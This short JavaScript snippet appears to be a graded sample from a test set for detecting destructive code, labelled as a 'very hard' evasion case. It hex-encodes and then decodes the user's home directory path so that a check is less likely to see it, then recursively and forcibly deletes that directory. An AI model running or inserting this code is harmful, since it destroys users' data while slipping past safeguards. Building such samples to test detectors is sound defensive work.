// evasion: the home directory hex-encoded and decoded back (Buffer toString('hex') / Buffer.from(x, 'hex'))
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const enc = Buffer.from(os.homedir()).toString("hex");
fs.rmSync(Buffer.from(enc, "hex").toString(), { recursive: true, force: true });
